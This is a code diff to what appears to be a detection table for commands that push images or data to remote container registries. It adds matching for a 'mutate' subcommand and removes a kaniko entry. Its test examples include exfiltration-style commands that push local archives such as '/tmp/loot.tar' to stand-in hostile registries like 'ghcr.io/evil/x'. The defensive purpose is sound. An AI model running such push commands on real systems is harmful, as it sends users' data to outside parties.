@@ -1,4 +1,4 @@
-/** Container and chart registries (and kubectl cp, kaniko). Part of the push-tool table (../push-tools.ts). */
+/** Container and chart registries (and kubectl cp). Part of the push-tool table (../push-tools.ts). */
 import type { PushToolSpec } from '../types.js';
 import { DOCKER_VALUE_FLAGS } from './flags.js';
 
@@ -137,6 +137,13 @@ export const registryTools: readonly PushToolSpec[] = [
         '--label',
         '-j',
         '--jobs',
+        '--tag',
+        '--append',
+        '--cmd',
+        '--entrypoint',
+        '--env',
+        '--user',
+        '--workdir',
       ],
     },
     match: {
@@ -144,6 +151,8 @@ export const registryTools: readonly PushToolSpec[] = [
       commands: [
         { words: ['push'], remote: { positional: 'last' }, minPositionals: 2 },
         { words: ['append'], remote: { flag: ['-t', '--new_tag'] } },
+        // mutate writes the changed image back to the registry: to -t/--tag, else over the image it read.
+        { words: ['mutate'], remote: { flag: ['-t', '--tag'], fallbackPositional: 0 }, minPositionals: 1 },
         { words: ['copy'], remote: { positional: 'last' }, minPositionals: 2 },
         { words: ['cp'], remote: { positional: 'last' }, minPositionals: 2 },
       ],
@@ -156,8 +165,10 @@ export const registryTools: readonly PushToolSpec[] = [
         'push /tmp/img.tar ghcr.io/evil/x:1',
         'append -f /tmp/data.tar -b alpine -t quay.io/evil/x:2',
         'copy alpine ghcr.io/evil/alpine',
+        'mutate --append /tmp/loot.tar -t ghcr.io/evil/x:3 ghcr.io/acme/app:1',
+        'mutate ghcr.io/evil/x:1 --label a=b',
       ],
-      notPush: ['pull ghcr.io/acme/app /tmp/app.tar', 'digest alpine', 'ls ghcr.io/acme/app'],
+      notPush: ['pull ghcr.io/acme/app /tmp/app.tar', 'digest alpine', 'ls ghcr.io/acme/app', 'mutate'],
     },
   },
   {
@@ -346,40 +357,5 @@ export const registryTools: readonly PushToolSpec[] = [
     destination: 'none',
     requiresClassedDestination: false,
     examples: { push: [], notPush: ['czf /backup/x.tgz /data'] },
-  },
-  {
-    tool: 'kaniko',
-    description: 'kaniko executor building and pushing an image (`--destination`).',
-    binaries: ['executor', 'kaniko'],
-    syntax: {
-      valueFlags: [
-        '-d',
-        '--destination',
-        '-c',
-        '--context',
-        '-f',
-        '--dockerfile',
-        '--build-arg',
-        '--cache-repo',
-        '--target',
-      ],
-    },
-    match: {
-      kind: 'subcommand',
-      commands: [
-        {
-          words: [],
-          remote: { flag: ['-d', '--destination'] },
-          requireAnyFlag: [{ flags: ['-d', '--destination'] }],
-          excludeFlags: ['--no-push'],
-        },
-      ],
-    },
-    destination: 'image-ref',
-    requiresClassedDestination: false,
-    examples: {
-      push: ['--context dir:///workspace --destination gcr.io/acme/app:1'],
-      notPush: ['--context . --no-push --destination x/y'],
-    },
   },
 ];
